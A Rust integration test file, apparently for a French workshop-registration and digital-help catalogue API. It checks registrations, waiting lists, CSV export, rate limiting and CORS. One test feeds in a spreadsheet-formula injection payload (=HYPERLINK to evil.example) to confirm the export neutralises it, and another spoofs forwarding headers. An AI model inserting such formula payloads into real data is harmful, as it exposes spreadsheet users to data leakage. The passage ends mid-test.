//! The HTTP API over real loopback HTTP, with a real SQLite file.

mod common;

use common::*;
use serde_json::{json, Value};
use uuid::Uuid;

#[test]
fn health_catalog_etag_and_unknown_api_paths() {
    let server = Server::start(&[], &[]);
    let agent = agent();
    let health = get(&agent, &format!("{}/api/health", server.url), &[]);
    assert_eq!((health.status, health.json()["statut"].clone()), (200, json!("ok")));

    let first = get(&agent, &format!("{}/api/catalogue/32", server.url), &[]);
    assert_eq!(first.status, 200);
    let etag = first.header("etag").expect("ETag").to_string();
    assert!(etag.starts_with('"') && etag.ends_with('"'), "strong ETag");
    let catalog = first.json();
    assert_eq!(catalog["territoire"]["nom"], "Gers");
    assert_eq!(catalog["lieux"].as_array().unwrap().len(), 35);
    assert_eq!(catalog["guides"].as_array().unwrap().len(), 12);
    assert!(catalog["ateliers"].as_array().unwrap().iter().any(|s| s["exemple"] == true));
    assert!(catalog["ateliers"].as_array().unwrap().iter().any(|s| s["evenement"] == "Semaine du Numérique dans le Gers"));
    let again = get(&agent, &format!("{}/api/catalogue/32", server.url), &[("If-None-Match", &etag)]);
    assert_eq!((again.status, again.body.as_str()), (304, ""));
    let other = get(&agent, &format!("{}/api/catalogue/82", server.url), &[("If-None-Match", &etag)]);
    assert_eq!(other.status, 200);
    assert_eq!(other.json()["lieux"].as_array().unwrap().len(), 56);

    let unknown = get(&agent, &format!("{}/api/catalogue/99", server.url), &[]);
    assert_eq!(unknown.status, 404);
    assert!(unknown.json()["message"].as_str().unwrap().contains("32 ou 82"));
    let nowhere = get(&agent, &format!("{}/api/rien/ici", server.url), &[]);
    assert_eq!((nowhere.status, nowhere.json()["code"].clone()), (404, json!("introuvable")));

    // A change by the command line shows in the catalog of the running server.
    let removed = server.cli(&["ateliers", "supprimer-exemples"]);
    assert!(removed.status.success());
    let after = get(&agent, &format!("{}/api/catalogue/32", server.url), &[("If-None-Match", &etag)]);
    assert_eq!(after.status, 200);
    assert!(after.json()["ateliers"].as_array().unwrap().iter().all(|s| s["exemple"] == false));
}

/// The residents' app reads the compact form: the same catalog, value for
/// value, for both territories, with a tag of its own (layout included).
#[test]
fn the_compact_catalog_is_the_json_catalog() {
    use proxinum_core::catalog::Catalog;
    use proxinum_core::catalog_compact::{self, LAYOUT};
    let server = Server::start(&[], &[]);
    let agent = agent();
    for code in ["32", "82"] {
        let json = get(&agent, &format!("{}/api/catalogue/{code}", server.url), &[]);
        let from_json: Catalog = serde_json::from_str(&json.body).unwrap();
        let url = format!("{}/api/catalogue/{code}/compact", server.url);
        let (status, headers, bytes) = get_bytes(&agent, &url, &[]);
        let header = |name: &str| headers.iter().find(|(k, _)| k.eq_ignore_ascii_case(name)).map(|(_, v)| v.clone()).unwrap_or_default();
        assert_eq!((status, header("content-type").as_str()), (200, "application/octet-stream"));
        assert_eq!(catalog_compact::read(&bytes).unwrap(), from_json, "territory {code}");
        assert!(bytes.len() < json.body.len() / 2, "{} bytes against {} of JSON", bytes.len(), json.body.len());
        let etag = header("etag");
        assert!(etag.ends_with(&format!("-c{LAYOUT}\"")), "{etag}");
        assert_eq!(get_bytes(&agent, &url, &[("If-None-Match", &etag)]).0, 304);
        let json_tag = json.header("etag").unwrap().to_string();
        assert_eq!(get_bytes(&agent, &url, &[("If-None-Match", &json_tag)]).0, 200, "the JSON's tag is another form's");
    }
    assert_eq!(get_bytes(&agent, &format!("{}/api/catalogue/99/compact", server.url), &[]).0, 404);
}

#[test]
fn nearest_places_and_bad_parameters() {
    let server = Server::start(&[], &[]);
    let agent = agent();
    let near = get(&agent, &format!("{}/api/lieux/proches?lat=43.6465&lon=0.5855&limite=3", server.url), &[]).json();
    let ids: Vec<&str> = near["lieux"].as_array().unwrap().iter().map(|l| l["lieu"]["id"].as_str().unwrap()).collect();
    assert_eq!(ids, ["cnfs-6384da29f7aaa606f2641832", "cnfs-62ac537c8255a806e299d56f", "cnfs-627bcb2fad1bdb06edc49ba5"]);
    assert_eq!(near["lieux"][0]["distance_km"], 0.28);
    assert_eq!(near["sans_coordonnees"].as_array().unwrap().len(), 2);

    let filtered = get(&agent, &format!("{}/api/lieux/proches?lat=43.6465&lon=0.5855&limite=1&besoin=demarches", server.url), &[]).json();
    assert_eq!(filtered["lieux"][0]["lieu"]["id"], "fs-1271");
    let encoded = get(
        &agent,
        &format!("{}/api/lieux/proches?lat=43.6465&lon=0.5855&limite=1&service=Aide%20aux%20d%C3%A9marches%20administratives", server.url),
        &[],
    )
    .json();
    assert_eq!(encoded["lieux"][0]["lieu"]["id"], "fs-1271");

    for (query, expected) in [
        ("lon=0.5", "paramètre « lat » manquant"),
        ("lat=abc&lon=0.5", "« lat » doit être un nombre"),
        ("lat=95&lon=0.5", "« lat » doit être entre -90 et 90"),
        ("lat=43&lon=0.5&limite=0", "« limite » doit être un entier de 1 à 100"),
        ("lat=43&lon=0.5&itinerance=volant", "itinerance : valeur « volant » inconnue"),
    ] {
        let reply = get(&agent, &format!("{}/api/lieux/proches?{query}", server.url), &[]);
        assert_eq!(reply.status, 400, "{query}");
        assert!(reply.json()["message"].as_str().unwrap().starts_with(expected), "{query}: {}", reply.body);
    }
}

#[test]
fn idempotent_and_conflicting_replays() {
    let server = Server::start(&[], &[]);
    let agent = agent();
    create_workshop(&server, "atelier-rejeu", days_from_now(10, 14), Some(5));
    let url = format!("{}/api/inscriptions", server.url);
    let id = Uuid::new_v4();
    let body = registration(id, "atelier-rejeu", 2);
    let first = send(&agent, "POST", &url, Some(&body), None);
    assert_eq!(first.status, 201, "{}", first.body);
    assert_eq!(first.json(), json!({"id": id, "statut": "confirmee", "session_id": "atelier-rejeu", "places": 2}));
    let replay = send(&agent, "POST", &url, Some(&body), None);
    assert_eq!(replay.status, 200);
    assert_eq!(replay.json(), first.json());
    // Only one row: 5 - 2 seats left.
    let detail = get(&agent, &format!("{}/api/sessions/atelier-rejeu", server.url), &[]).json();
    assert_eq!((detail["places_restantes"].clone(), detail["liste_attente"].clone()), (json!(3), json!(0)));

    let mut different = body.clone();
    different["places"] = json!(1);
    let conflict = send(&agent, "POST", &url, Some(&different), None);
    assert_eq!((conflict.status, conflict.json()["code"].clone()), (409, json!("identifiant_deja_utilise")));
    let status = get(&agent, &format!("{}/api/inscriptions/{id}", server.url), &[]).json();
    assert_eq!(status["statut"], "confirmee");
}

#[test]
fn validation_and_refusals() {
    let server = Server::start(&[], &[]);
    let agent = agent();
    let url = format!("{}/api/inscriptions", server.url);
    create_workshop(&server, "atelier-ok", days_from_now(10, 14), Some(5));

    let mut invalid = registration(Uuid::new_v4(), "atelier-ok", 1);
    invalid["prenom"] = json!(" ");
    invalid["telephone"] = json!("12");
    invalid["consentement"] = json!(false);
    let reply = send(&agent, "POST", &url, Some(&invalid), None);
    assert_eq!(reply.status, 422);
    let fields: Vec<String> =
        reply.json()["erreurs"].as_array().unwrap().iter().map(|e| e["champ"].as_str().unwrap().to_string()).collect();
    assert_eq!(fields, ["prenom", "telephone", "consentement"]);

    let unknown = send(&agent, "POST", &url, Some(&registration(Uuid::new_v4(), "atelier-inconnu", 1)), None);
    assert_eq!(unknown.status, 404);

    let garbled = send(&agent, "POST", &url, Some(&json!({"id": "pas-un-uuid"})), None);
    assert_eq!(garbled.status, 422, "a field of the wrong form is named");
    assert_eq!(garbled.json()["erreurs"][0]["champ"], "id");
    let incomplete = send(&agent, "POST", &url, Some(&json!({"session_id": "atelier-limite"})), None);
    assert_eq!(incomplete.status, 400);
    assert!(incomplete.json()["message"].as_str().unwrap().starts_with("Données inattendues"));

    // Cancelled workshop.
    create_workshop(&server, "atelier-annule", days_from_now(10, 14), Some(5));
    let cancelled = send(&agent, "POST", &format!("{}/api/organisateur/ateliers/atelier-annule/annulation", server.url), None, Some(TOKEN));
    assert_eq!(cancelled.status, 200);
    let refused = send(&agent, "POST", &url, Some(&registration(Uuid::new_v4(), "atelier-annule", 1)), None);
    assert_eq!((refused.status, refused.json()["code"].clone()), (409, json!("annule")));

    // Past (and so started) workshop.
    create_workshop(&server, "atelier-passe", days_from_now(-3, 9), Some(5));
    let late = send(&agent, "POST", &url, Some(&registration(Uuid::new_v4(), "atelier-passe", 1)), None);
    assert_eq!((late.status, late.json()["code"].clone()), (409, json!("commence")));

    // Examples without in-app registration (the permanence) refuse politely.
    let catalog = get(&agent, &format!("{}/api/catalogue/32", server.url), &[]).json();
    let drop_in = catalog["ateliers"].as_array().unwrap().iter().find(|s| s["inscription"]["mode"] == "sans_inscription").unwrap();
    let elsewhere = send(&agent, "POST", &url, Some(&registration(Uuid::new_v4(), drop_in["id"].as_str().unwrap(), 1)), None);
    assert_eq!((elsewhere.status, elsewhere.json()["code"].clone()), (409, json!("inscription_ailleurs")));

    // Too large.
    let mut huge = registration(Uuid::new_v4(), "atelier-ok", 1);
    huge["besoins"] = json!("x".repeat(100_000));
    let too_large = send(&agent, "POST", &url, Some(&huge), None);
    assert_eq!((too_large.status, too_large.json()["code"].clone()), (413, json!("trop_volumineux")));
}

#[test]
fn cancellation_promotes_the_waiting_list_in_order() {
    let server = Server::start(&[], &[]);
    let agent = agent();
    let url = format!("{}/api/inscriptions", server.url);
    create_workshop(&server, "atelier-petit", days_from_now(10, 14), Some(3));
    let ids: Vec<Uuid> = (0..5).map(|_| Uuid::new_v4()).collect();
    let seats = [2, 1, 2, 1, 1];
    let statuses: Vec<String> = ids
        .iter()
        .zip(seats)
        .map(|(id, n)| {
            send(&agent, "POST", &url, Some(&registration(*id, "atelier-petit", n)), None).json()["statut"].as_str().unwrap().to_string()
        })
        .collect();
    // 2 + 1 fill the 3 seats; then everyone waits, even the small ones.
    assert_eq!(statuses, ["confirmee", "confirmee", "liste_attente", "liste_attente", "liste_attente"]);

    // One seat frees up: the first in line needs 2, so nobody moves (no queue jumping).
    let cancel = send(&agent, "DELETE", &format!("{url}/{}", ids[1]), None, None);
    assert_eq!((cancel.status, cancel.json()["statut"].clone()), (200, json!("annulee")));
    assert_eq!(get(&agent, &format!("{url}/{}", ids[2]), &[]).json()["statut"], "liste_attente");
    // Two more seats: the first in line (2 seats) moves up, then the next (1) fits.
    send(&agent, "DELETE", &format!("{url}/{}", ids[0]), None, None);
    assert_eq!(get(&agent, &format!("{url}/{}", ids[2]), &[]).json()["statut"], "confirmee");
    assert_eq!(get(&agent, &format!("{url}/{}", ids[3]), &[]).json()["statut"], "confirmee");
    assert_eq!(get(&agent, &format!("{url}/{}", ids[4]), &[]).json()["statut"], "liste_attente");
    // Cancelling twice is fine.
    assert_eq!(send(&agent, "DELETE", &format!("{url}/{}", ids[0]), None, None).status, 200);
    assert_eq!(send(&agent, "DELETE", &format!("{url}/{}", Uuid::new_v4()), None, None).status, 404);
}

#[test]
fn organiser_auth_csv_attendance_and_erasure() {
    let server = Server::start(&[], &[]);
    let agent = agent();
    create_workshop(&server, "atelier-csv", days_from_now(10, 14), Some(10));
    let id = Uuid::new_v4();
    let mut body = registration(id, "atelier-csv", 1);
    body["prenom"] = json!("Élodie");
    body["nom"] = json!("Lefèvre; « Zoé »");
    body["besoins"] = json!("Fauteuil roulant");
    assert_eq!(send(&agent, "POST", &format!("{}/api/inscriptions", server.url), Some(&body), None).status, 201);

    let list = format!("{}/api/organisateur/ateliers/atelier-csv/inscriptions", server.url);
    let none = send(&agent, "GET", &list, None, None);
    assert_eq!((none.status, none.header("www-authenticate")), (401, Some("Bearer")));
    assert_eq!(send(&agent, "GET", &list, None, Some("mauvais")).status, 401);
    let right = send(&agent, "GET", &list, None, Some(TOKEN));
    assert_eq!(right.status, 200);
    assert_eq!(right.json()[0]["prenom"], "Élodie");

    let presence = send(
        &agent,
        "PUT",
        &format!("{}/api/organisateur/inscriptions/{id}/presence", server.url),
        Some(&json!({"present": true})),
        Some(TOKEN),
    );
    assert_eq!(presence.status, 204);

    let csv_reply = send(&agent, "GET", &format!("{list}.csv"), None, Some(TOKEN));
    assert_eq!(csv_reply.status, 200);
    assert!(csv_reply.header("content-type").unwrap().starts_with("text/csv"));
    let bytes = csv_reply.body.as_bytes();
    assert!(bytes.starts_with("\u{feff}".as_bytes()), "UTF-8 BOM");
    let mut reader = csv::ReaderBuilder::new().delimiter(b';').from_reader(&bytes[3..]);
    let headers = reader.headers().unwrap().clone();
    assert_eq!(&headers[2], "Prénom");
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
    assert_eq!(rows.len(), 1);
    assert_eq!(
        (&rows[0][0], &rows[0][2], &rows[0][3], &rows[0][4]),
        ("Inscription confirmée", "Élodie", "Lefèvre; « Zoé »", "06 12 34 56 78")
    );
    assert_eq!((&rows[0][7], &rows[0][8]), ("Fauteuil roulant", "oui"));

    // A registration whose fields start like formulas: written as text.
    let mut formula = registration(Uuid::new_v4(), "atelier-csv", 1);
    formula["prenom"] = json!("=HYPERLINK(\"http://evil.example/?x\";\"clic\")");
    formula["nom"] = json!("Martin");
    formula["besoins"] = json!("@SOMME(A1:A9)");
    assert_eq!(send(&agent, "POST", &format!("{}/api/inscriptions", server.url), Some(&formula), None).status, 201);
    let csv_reply = send(&agent, "GET", &format!("{list}.csv"), None, Some(TOKEN));
    let bytes = csv_reply.body.as_bytes();
    let rows: Vec<csv::StringRecord> =
        csv::ReaderBuilder::new().delimiter(b';').from_reader(&bytes[3..]).records().map(|r| r.unwrap()).collect();
    let martin = rows.iter().find(|r| &r[3] == "Martin").expect("second row");
    assert_eq!((&martin[2], &martin[7]), ("'=HYPERLINK(\"http://evil.example/?x\";\"clic\")", "'@SOMME(A1:A9)"));
    assert!(rows.iter().all(|r| r.iter().all(|cell| !cell.starts_with(['=', '+', '-', '@']))), "no cell starts a formula");
    let lower = ureq::http::Request::builder().uri(&list).header("Authorization", format!("bearer {TOKEN}")).body(Vec::new()).unwrap();
    assert_eq!(agent.run(lower).unwrap().status().as_u16(), 200, "the Bearer scheme is case-insensitive");

    let erase = send(&agent, "DELETE", &format!("{}/api/organisateur/inscriptions/{id}/donnees", server.url), None, Some(TOKEN));
    assert_eq!(erase.status, 204);
    let after = send(&agent, "GET", &list, None, Some(TOKEN)).json();
    let after: Vec<Value> = after.as_array().unwrap().iter().filter(|r| r["id"] == json!(id)).cloned().collect();
    assert_eq!((after[0]["prenom"].clone(), after[0]["places"].clone()), (Value::Null, json!(1)));
    assert!(after[0]["donnees_effacees_le"].is_string());
}

#[test]
fn retention_purge_at_a_fixed_clock() {
    // The server believes it is 10 January 2026.
    let server = Server::start(&[], &[("PROXINUM_MAINTENANT", "2026-01-10T09:00:00Z")]);
    let agent = agent();
    let start = chrono::NaiveDate::from_ymd_opt(2026, 1, 15).unwrap().and_hms_opt(14, 0, 0).unwrap();
    create_workshop(&server, "atelier-janvier", start, Some(10));
    let id = Uuid::new_v4();
    assert_eq!(
        send(&agent, "POST", &format!("{}/api/inscriptions", server.url), Some(&registration(id, "atelier-janvier", 1)), None).status,
        201
    );
    let names = || {
        send(&agent, "GET", &format!("{}/api/organisateur/ateliers/atelier-janvier/inscriptions", server.url), None, Some(TOKEN)).json()[0]
            ["nom"]
            .clone()
    };

    // 10 February: the workshop ended 26 days ago, under the 30 days kept.
    let early = server.cli(&["purger", "--maintenant", "2026-02-10T00:00:00Z"]);
    assert!(String::from_utf8_lossy(&early.stdout).starts_with("0 inscription"), "{:?}", early);
    assert_eq!(names(), "Dupont");
    // 20 February: more than 30 days after it ended.
    let late = server.cli(&["purger", "--maintenant", "2026-02-20T00:00:00Z"]);
    assert!(String::from_utf8_lossy(&late.stdout).starts_with("1 inscription"), "{:?}", late);
    assert_eq!(names(), Value::Null);
    // Seats and statuses stay for the statistics.
    let detail = get(&agent, &format!("{}/api/sessions/atelier-janvier", server.url), &[]).json();
    assert_eq!(detail["places_restantes"], 9);
}

#[test]
fn catalog_carries_opening_hours_evaluated_from_the_servers_week() {
    // Saturday 28 March 2026: the hours start on Monday 23 March, for 13 weeks.
    let server = Server::start(&[], &[("PROXINUM_MAINTENANT", "2026-03-28T09:00:00Z")]);
    let catalog = get(&agent(), &format!("{}/api/catalogue/32", server.url), &[]).json();
    assert_eq!(catalog["format"], 2);
    let lectoure = &catalog["horaires"]["fs-192"];
    assert_eq!(lectoure["du"], "2026-03-23");
    let days: Vec<char> = lectoure["jours"].as_str().unwrap().chars().collect();
    assert_eq!(days.len(), 91);
    // Monday to Friday alike, the weekend closed, and so are public holidays:
    // Easter Monday (6 April), 1 May (a Friday).
    assert_eq!(days[0..7].iter().collect::<String>(), "0000011");
    assert_eq!((days[14], days[39]), ('1', '1'), "{days:?}");
    assert_eq!(lectoure["motifs"][0], json!([[510, 720, "ouvert", ""], [810, 1020, "ouvert", ""]]));
    // Places whose hours are free text or missing have no calendar.
    let places = catalog["lieux"].as_array().unwrap();
    let calendars = catalog["horaires"].as_object().unwrap();
    assert!(calendars.len() < places.len() && calendars.len() > 10, "{} of {}", calendars.len(), places.len());
    for place in places {
        let readable = place["horaires"].as_str().is_some_and(|t| proxinum_core::hours::parse(t).is_some());
        assert_eq!(calendars.contains_key(place["id"].as_str().unwrap()), readable, "{}", place["id"]);
    }
}

#[test]
fn rate_limit_answers_429() {
    let server = Server::start(&["--limite-par-minute", "3"], &[]);
    let agent = agent();
    create_workshop(&server, "atelier-limite", days_from_now(10, 14), None);
    let url = format!("{}/api/inscriptions", server.url);
    let statuses: Vec<u16> =
        (0..4).map(|_| send(&agent, "POST", &url, Some(&registration(Uuid::new_v4(), "atelier-limite", 1)), None).status).collect();
    assert_eq!(statuses, [201, 201, 201, 429]);
    let limited = send(&agent, "POST", &url, Some(&registration(Uuid::new_v4(), "atelier-limite", 1)), None);
    assert_eq!(limited.header("retry-after"), Some("60"));
    assert!(limited.json()["message"].as_str().unwrap().contains("Réessayez"));
    // Without --proxys-de-confiance, a client cannot pass for another one.
    for spoofed in ["198.51.100.1", "198.51.100.2"] {
        let forged = post_with(
            &agent,
            &url,
            &registration(Uuid::new_v4(), "atelier-limite", 1),
            &[("X-Forwarded-For", spoofed), ("Forwarded", &format!("for={spoofed}"))],
        );
        assert_eq!(forged.status, 429, "X-Forwarded-For {spoofed} from an untrusted connection");
    }
}

#[test]
fn behind_a_trusted_proxy_each_visitor_has_its_own_limit() {
    // The test client connects from 127.0.0.1, here the trusted proxy.
    let server = Server::start(&["--limite-par-minute", "2", "--proxys-de-confiance", "10.0.0.0/8,127.0.0.1"], &[]);
    let agent = agent();
    create_workshop(&server, "atelier-proxy", days_from_now(10, 14), None);
    let url = format!("{}/api/inscriptions", server.url);
    let from =
        |client: &str| post_with(&agent, &url, &registration(Uuid::new_v4(), "atelier-proxy", 1), &[("X-Forwarded-For", client)]).status;
    assert_eq!([from("198.51.100.1"), from("198.51.100.1"), from("198.51.100.1")], [201, 201, 429]);
    // Another visitor of the same proxy is not blocked by the first one.
    assert_eq!(from("198.51.100.2"), 201);
    // What the client wrote itself is left of what the proxy appended.
    assert_eq!(from("198.51.100.2, 198.51.100.3"), 201);
    // IPv6 visitors are counted per /64.
    assert_eq!([from("2001:db8:1:2::1"), from("2001:db8:1:2::ffff"), from("2001:db8:1:2:3::9")], [201, 201, 429]);
    assert_eq!(from("2001:db8:1:3::1"), 201);
    // RFC 7239 `Forwarded` is read too.
    let forwarded = post_with(
        &agent,
        &url,
        &registration(Uuid::new_v4(), "atelier-proxy", 1),
        &[("Forwarded", "for=\"[2001:db8:9::1]:4711\";proto=https")],
    );
    assert_eq!(forwarded.status, 201);
    // A bad value on the command line is refused, in French.
    let bad =
        std::process::Command::new(env!("CARGO_BIN_EXE_proxinum")).args(["servir", "--proxys-de-confiance", "caddy"]).output().unwrap();
    assert!(!bad.status.success());
    assert!(
        String::from_utf8_lossy(&bad.stderr).contains("n'est ni une adresse IP ni un réseau"),
        "{}",
        String::from_utf8_lossy(&bad.stderr)
    );
}

#[test]
fn calendar_export_parses_with_paris_times() {
    let server = Server::start(&[], &[]);
    let agent = agent();
    create_workshop(&server, "atelier-ics", days_from_now(12, 9), Some(10));
    let reply = get(&agent, &format!("{}/api/ateliers/atelier-ics/calendrier.ics", server.url), &[]);
    assert_eq!(reply.status, 200);
    assert!(reply.header("content-type").unwrap().starts_with("text/calendar"));
    let calendars: Vec<_> = ical::IcalParser::new(reply.body.as_bytes()).collect::<Result<_, _>>().expect("valid iCalendar");
    let event = &calendars[0].events[0];
    let start = event.properties.iter().find(|p| p.name == "DTSTART").unwrap();
    assert!(start.value.as_deref().unwrap().ends_with("T090000"));
    assert_eq!(start.params.as_ref().unwrap()[0].1, ["Europe/Paris"]);
    let location = event.properties.iter().find(|p| p.name == "LOCATION").unwrap();
    assert!(location.value.as_deref().unwrap().contains("Lectoure"));

    let feed = get(&agent, &format!("{}/api/catalogue/32/ateliers.ics", server.url), &[]);
    let feed: Vec<_> = ical::IcalParser::new(feed.body.as_bytes()).collect::<Result<_, _>>().unwrap();
    assert!(feed[0].events.len() >= 5);
}

#[test]
fn openapi_document_matches_the_routes() {
    let server = Server::start(&[], &[]);
    let agent = agent();
    let document = get(&agent, &format!("{}/api/openapi.json", server.url), &[]).json();
    let paths = document["paths"].as_object().unwrap();
    let mut documented: Vec<String> = Vec::new();
    for (path, item) in paths {
        for method in item.as_object().unwrap().keys().filter(|m| ["get", "post", "put", "delete"].contains(&m.as_str())) {
            documented.push(format!("{} {path}", method.to_uppercase()));
        }
    }
    documented.sort();
    let expected = [
        "DELETE /api/inscriptions/{id}",
        "DELETE /api/organisateur/inscriptions/{id}/donnees",
        "GET /api/ateliers/{id}/calendrier.ics",
        "GET /api/catalogue/{territoire}",
        "GET /api/catalogue/{territoire}/ateliers.ics",
        "GET /api/catalogue/{territoire}/compact",
        "GET /api/disponibilites/{territoire}",
        "GET /api/health",
        "GET /api/inscriptions/{id}",
        "GET /api/lieux/proches",
        "GET /api/organisateur/ateliers",
        "GET /api/organisateur/ateliers/{id}/a-appeler",
        "GET /api/organisateur/ateliers/{id}/inscriptions",
        "GET /api/organisateur/ateliers/{id}/inscriptions.csv",
        "GET /api/organisateur/compte",
        "GET /api/organisateur/journal",
        "GET /api/organisateur/organisateurs",
        "GET /api/organisateur/tableau",
        "GET /api/sessions/{id}",
        "POST /api/inscriptions",
        "POST /api/organisateur/ateliers",
        "POST /api/organisateur/ateliers/{id}/annulation",
        "POST /api/organisateur/ateliers/{id}/report",
        "POST /api/organisateur/import-ics",
        "POST /api/organisateur/organisateurs",
        "POST /api/organisateur/organisateurs/{id}/revocation",
        "POST /api/organisateur/organisateurs/{id}/secret",
        "PUT /api/organisateur/ateliers/{id}",
        "PUT /api/organisateur/ateliers/{id}/organisateur",
        "PUT /api/organisateur/inscriptions/{id}/presence",
        "PUT /api/organisateur/lieux/{id}/arrets",
    ];
    assert_eq!(documented, expected);
    // Every documented route is really served (no 404 "unknown API path"
    // nor 405) with placeholder parameters.
    for entry in &documented {
        let (method, path) = entry.split_once(' ').unwrap();
        let concrete = path.replace("{id}", &Uuid::new_v4().to_string()).replace("{territoire}", "32");
        let url = format!("{}{concrete}?lat=43.6&lon=0.5", server.url);
        // A connection of its own for each request: a route that answers
        // before reading the placeholder body closes its connection, and a
        // pooled one reused at that moment failed once ("Peer disconnected").
        let reply = send(&common::agent(), method, &url, Some(&json!({})), Some(TOKEN));
        assert_ne!(reply.status, 405, "{entry}");
        if reply.status == 404 {
            assert_ne!(reply.json()["message"], "Cette adresse de l'API n'existe pas.", "{entry} is not routed");
        }
    }
    // The registration schema documents the fields the app sends.
    let schema = &document["components"]["schemas"]["RegistrationRequest"]["properties"];
    for field in ["id", "session_id", "prenom", "nom", "telephone", "courriel", "places", "besoins", "consentement"] {
        assert!(schema.get(field).is_some(), "{field}");
    }
}

#[test]
fn organiser_creates_postpones_and_cancels() {
    let server = Server::start(&[], &[]);
    let agent = agent();
    let created = create_workshop(&server, "atelier-serie", days_from_now(8, 10), Some(4));
    assert_eq!(created.as_array().unwrap().len(), 1);
    let duplicate =
        send(&agent, "POST", &format!("{}/api/organisateur/ateliers", server.url), Some(&json!({"atelier": created[0]})), Some(TOKEN));
    assert_eq!(duplicate.status, 409);

    let id = Uuid::new_v4();
    send(&agent, "POST", &format!("{}/api/inscriptions", server.url), Some(&registration(id, "atelier-serie", 1)), None);
    let new_start = days_from_now(15, 14);
    let postponed = send(
        &agent,
        "POST",
        &format!("{}/api/organisateur/ateliers/atelier-serie/report", server.url),
        Some(
            &json!({"debut": new_start.format("%Y-%m-%dT%H:%M:%S").to_string(), "fin": (new_start + chrono::Duration::hours(1)).format("%Y-%m-%dT%H:%M:%S").to_string()}),
        ),
        Some(TOKEN),
    );
    assert_eq!(postponed.status, 200, "{}", postponed.body);
    assert_eq!(postponed.json()["statut"], "reportee");
    assert!(postponed.json()["date_initiale"].is_string());
    // Registrations stay through a postponement…
    assert_eq!(get(&agent, &format!("{}/api/inscriptions/{id}", server.url), &[]).json()["statut"], "confirmee");
    // …and follow a cancellation.
    send(&agent, "POST", &format!("{}/api/organisateur/ateliers/atelier-serie/annulation", server.url), None, Some(TOKEN));
    assert_eq!(get(&agent, &format!("{}/api/inscriptions/{id}", server.url), &[]).json()["statut"], "annulee");

    let invalid = send(
        &agent,
        "POST",
        &format!("{}/api/organisateur/ateliers", server.url),
        Some(
            &json!({"atelier": {"id": "x", "territoire": "32", "titre": "", "resume": "r", "themes": ["Premiers pas"], "publics": ["Tout public"],
            "lieu": {"type": "lieu", "lieu_id": "inconnu"}, "debut": "2030-01-01T10:00:00", "fin": "2030-01-01T09:00:00",
            "inscription": {"mode": "dans_l_app"}, "organisateur": "o"}}),
        ),
        Some(TOKEN),
    );
    assert_eq!(invalid.status, 422);
    let fields: Vec<String> =
        invalid.json()["erreurs"].as_array().unwrap().iter().map(|e| e["champ"].as_str().unwrap().to_string()).collect();
    assert_eq!(fields, ["titre", "fin", "lieu"]);
}

#[test]
fn cors_for_public_reads_only_and_no_protocol_relative_redirect() {
    let server = Server::start(&[], &[]);
    let agent = agent();
    let origin = [("Origin", "https://mairie.example")];
    for path in ["/api/catalogue/32", "/api/lieux/proches?lat=43.6&lon=0.58", "/api/sessions/inconnu"] {
        let reply = get(&agent, &format!("{}{path}", server.url), &origin);
        assert_eq!(reply.header("access-control-allow-origin"), Some("*"), "{path}");
    }
    let health = get(&agent, &format!("{}/api/health", server.url), &origin);
    assert_eq!(health.header("access-control-allow-origin"), None);
    let preflight = ureq::http::Request::builder()
        .method("OPTIONS")
        .uri(format!("{}/api/catalogue/32", server.url))
        .header("Origin", "https://mairie.example")
        .header("Access-Control-Request-Method", "GET")
        .body(Vec::new())
        .unwrap();
    let preflight = agent.run(preflight).unwrap();
    assert_eq!(preflight.status().as_u16(), 204);
    assert_eq!(preflight.headers().get("access-control-allow-methods").and_then(|v| v.to_str().ok()), Some("GET"));
    let body = registration(Uuid::new_v4(), "inconnu", 1);
    let post = ureq::http::Request::builder()
        .method("POST")
        .uri(format!("{}/api/inscriptions", server.url))
        .header("Origin", "https://mairie.example")
        .header("Content-Type", "application/json")
        .body(serde_json::to_vec(&body).unwrap())
        .unwrap();
    assert!(agent.run(post).unwrap().headers().get("access-control-allow-origin").is_none(), "registrations stay same-origin");

    // A real directory of the app's files, as `dist/icons` is in production.
    std::fs::create_dir_all(server.dir.path().join("dist/icons")).unwrap();
    let no_redirect: ureq::Agent = ureq::Agent::config_builder().http_status_as_error(false).max_redirects(0).build().into();
    let reply = no_redirect.get(&format!("{}//icons", server.url)).call().unwrap();
    let location = reply.headers().get("location").and_then(|v| v.to_str().ok()).unwrap_or("");
    assert!(!location.starts_with("//"), "protocol-relative redirect to {location}");
}

/// Raising a workshop's capacity gives the freed seats to the people
/// waiting, in order, before any newcomer (review finding 2).
#[test]
fn raising_the_capacity_confirms_the_waiting_list_first() {
    let server = Server::start(&["--limite-par-minute", "0"], &[]);
    let agent = agent();
    create_workshop(&server, "atelier-capacite", days_from_now(9, 10), Some(2));
    let register = |places: u32| {
        let id = Uuid::new_v4();
        let reply =
            send(&agent, "POST", &format!("{}/api/inscriptions", server.url), Some(&registration(id, "atelier-capacite", places)), None);
        assert_eq!(reply.status, 201, "{}", reply.body);
        (id, reply.json()["statut"].as_str().unwrap().to_string())
    };
    let status =
        |id: Uuid| get(&agent, &format!("{}/api/inscriptions/{id}", server.url), &[]).json()["statut"].as_str().unwrap().to_string();
    let (a, _) = register(2);
    let (b, b_first) = register(1);
    let (c, c_first) = register(2);
    assert_eq!((b_first.as_str(), c_first.as_str()), ("liste_attente", "liste_attente"));
    assert_eq!(send(&agent, "DELETE", &format!("{}/api/inscriptions/{a}", server.url), None, None).status, 200);
    assert_eq!((status(b).as_str(), status(c).as_str()), ("confirmee", "liste_attente"), "1 seat freed: B fits, C does not");

    let mut session = get(&agent, &format!("{}/api/sessions/atelier-capacite", server.url), &[]).json()["atelier"].clone();
    session["capacite"] = json!(10);
    let put = send(&agent, "PUT", &format!("{}/api/organisateur/ateliers/atelier-capacite", server.url), Some(&session), Some(TOKEN));
    assert_eq!(put.status, 200, "{}", put.body);
    assert_eq!(status(c), "confirmee", "the waiting list moves up with the capacity");
    let seats = get(&agent, &format!("{}/api/sessions/atelier-capacite", server.url), &[]).json();
    assert_eq!((seats["places_restantes"].clone(), seats["liste_attente"].clone()), (json!(7), json!(0)));
    let (_, d) = register(1);
    assert_eq!(d, "confirmee", "a newcomer is not put behind free seats");
}

/// A malformed address is a JSON error that says what is wrong, like every
/// other error of the API (review finding 7: these were `400 text/plain`).
#[test]
fn malformed_addresses_get_json_errors() {
    let server = Server::start(&[], &[]);
    let agent = agent();
    for path in ["/api/inscriptions/pas-un-uuid", "/api/sessions/%FF", "/api/catalogue/%FF%FE"] {
        let reply = get(&agent, &format!("{}{path}", server.url), &[]);
        assert_eq!(reply.status, 400, "{path}: {}", reply.body);
